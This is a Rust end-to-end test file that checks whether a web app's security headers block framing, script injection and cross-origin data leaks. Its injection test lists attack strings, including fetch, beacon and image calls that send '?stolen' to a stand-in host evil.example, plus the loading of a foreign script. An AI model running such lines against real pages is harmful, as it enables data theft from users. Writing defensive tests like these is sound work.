//! Tests of attacks that the browser blocks because of the page's headers.

use yew_cognito_e2e::{Page, run};

/// Two directives forbid scripts that are strings or come from another origin. The browser names one of the two.
const SCRIPT: &str = "script-src require-trusted-types-for";

#[test]
fn the_site_cannot_be_framed() {
    run(async |t| {
        t.expect_console_error("frame");
        let framing = t
            .foreign_site(&format!("<title>Framing</title><iframe src='{}/signin'></iframe>", t.site.origin))
            .await;
        let page = t.page();
        page.visit(&framing.origin).await;
        page.wait_until("the frame to be blocked", async || {
            page.frames().await.iter().any(|url| url.starts_with("chrome-error:"))
        })
        .await;
        assert!(!page.frames().await.iter().any(|url| url.starts_with(&t.site.origin)));
        // The browser names the violated rule on the console.
        let problems = t.take_problems().await;
        assert!(problems.iter().any(|it| it.contains("frame-ancestors 'none'")), "{problems:?}");
    });
}

/// A page without such a rule can be framed, so the test above observes the effect of the rule.
#[test]
fn a_page_without_the_policy_can_be_framed() {
    run(async |t| {
        let framed = t.foreign_site("<title>Framed</title>").await;
        let framing = t.foreign_site(&format!("<iframe src='{}'></iframe>", framed.origin)).await;
        let page = t.page();
        page.visit(&framing.origin).await;
        page.wait_until("the frame", async || {
            page.frames().await.iter().any(|url| url.starts_with(&framed.origin))
        })
        .await;
    });
}

#[test]
fn injected_markup_and_scripts_are_blocked() {
    run(async |t| {
        let page = t.page();
        page.goto("/signin").await;
        page.wait_for_screen("sign-in").await;
        // Each entry is the next step of an attacker who can already run a line of script.
        for (attack, attempt, directive) in [
            (
                "markup from a text",
                "document.body.innerHTML += '<b id=injected></b>'",
                "require-trusted-types-for",
            ),
            (
                "a policy to allow it",
                "trustedTypes.createPolicy('p', { createHTML: (it) => it })",
                "trusted-types",
            ),
            ("code from a text", "window.injected = new Function('return 1')()", SCRIPT),
            (
                "an inline script",
                "const it = document.createElement('script'); it.append('window.injected = 1'); document.body.append(it)",
                SCRIPT,
            ),
            (
                "a script of another origin",
                "const it = document.createElement('script'); it.setAttribute('src', 'https://evil.example/x.js'); \
                 document.body.append(it)",
                SCRIPT,
            ),
            (
                "an event handler in markup",
                "const it = document.createElement('p'); it.setAttribute('onclick', 'window.injected = 1'); \
                 document.body.append(it); it.click()",
                SCRIPT,
            ),
            (
                "a style in markup",
                "const it = document.createElement('style'); it.append('body{color:red}'); document.body.append(it)",
                "style-src",
            ),
            (
                "an image of another origin",
                "const it = new Image(); it.src = 'https://evil.example/?stolen'; document.body.append(it)",
                "img-src",
            ),
            (
                "a call to another origin",
                "fetch('https://evil.example/?stolen').catch(() => {})",
                "connect-src",
            ),
            (
                "a beacon to another origin",
                "navigator.sendBeacon('https://evil.example/?stolen')",
                "connect-src",
            ),
            (
                "another base for links",
                "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it)",
                "base-uri",
            ),
            (
                "a form that submits itself to this site",
                "const it = document.createElement('form'); document.body.append(it); it.submit()",
                "form-action",
            ),
            (
                "a form with a foreign action",
                "const it = document.createElement('form'); it.action = 'https://evil.example/'; \
                 document.body.append(it); it.submit()",
                "form-action",
            ),
            ("a worker", "new Worker('/assets/x.js')", "worker-src require-trusted-types-for"),
            (
                "a frame",
                "const it = document.createElement('iframe'); it.src = 'https://evil.example/'; document.body.append(it)",
                "frame-src",
            ),
        ] {
            let violated = violated_directive(&page, attempt).await;
            assert!(directive.split(' ').any(|it| it == violated), "{attack} violates {violated}");
        }
        assert_eq!(page.eval("return typeof window.injected").await, "undefined");
        assert_eq!(page.eval("return document.querySelector('#injected') === null").await, true);
        page.wait_for_screen("sign-in").await;

        // The browser logs a request before it blocks it, so evil.example is among the URLs.
        t.expect_console_error("");
        let expected =
            ["Content-Security-Policy", "foreign URL: https://evil.example", "foreign URL: chrome-error:"];
        let problems = t.take_problems().await;
        let is_expected = |problem: &String| expected.iter().any(|it| problem.starts_with(it));
        assert!(problems.iter().all(is_expected), "{problems:?}");
    });
}

/// Returns the directive that an attempt violates. Exceptions of the attempt are ignored.
async fn violated_directive(page: &Page, attempt: &str) -> String {
    let script = format!(
        "window.violated = ''; \
         document.addEventListener('securitypolicyviolation', (event) => {{ \
             window.violated = event.effectiveDirective; \
         }}, {{ once: true }}); \
         setTimeout(() => {{ try {{ {attempt} }} catch {{}} }})"
    );
    // Runs later, because scripts of the driver may evaluate code, while scripts of the page may not.
    page.eval(&script).await;
    let mut violated = String::new();
    page.wait_until(&format!("a violation by {attempt}"), async || {
        page.eval("return window.violated").await.as_str().unwrap_or_default().clone_into(&mut violated);
        !violated.is_empty()
    })
    .await;
    // Script attributes and elements have their own directives, for which script-src is the fallback.
    violated.trim_end_matches("-elem").trim_end_matches("-attr").to_owned()
}

/// Safari applies `upgrade-insecure-requests` to `http://localhost`, where no server speaks TLS.
#[test]
fn https_only_headers_are_omitted_on_loopback() {
    run(async |t| {
        let page = t.page();
        page.goto("/signin").await;
        page.wait_for_screen("sign-in").await;
        let header = async |name: &str| {
            let script = format!("return (async () => (await fetch('/')).headers.get('{name}'))()");
            page.eval(&script).await.as_str().map(str::to_owned)
        };
        assert_eq!(header("strict-transport-security").await, None);
        let policy = header("content-security-policy").await.expect("the page should have a policy");
        assert!(!policy.contains("upgrade-insecure-requests"), "{policy}");
        assert!(policy.contains("default-src 'none'"), "{policy}");
    });
}

#[test]
fn the_opener_of_the_site_loses_access() {
    run(async |t| {
        let opening = t.foreign_site("<title>Opening</title>").await;
        let page = t.page();
        page.visit(&opening.origin).await;
        page.eval(&format!("window.opened = window.open('{}/signin')", t.site.origin)).await;
        // A page with its own Cross-Origin-Opener-Policy appears to its opener as closed.
        page.wait_until("the opener to lose access", async || {
            page.eval("return window.opened.closed").await == true
        })
        .await;
    });
}
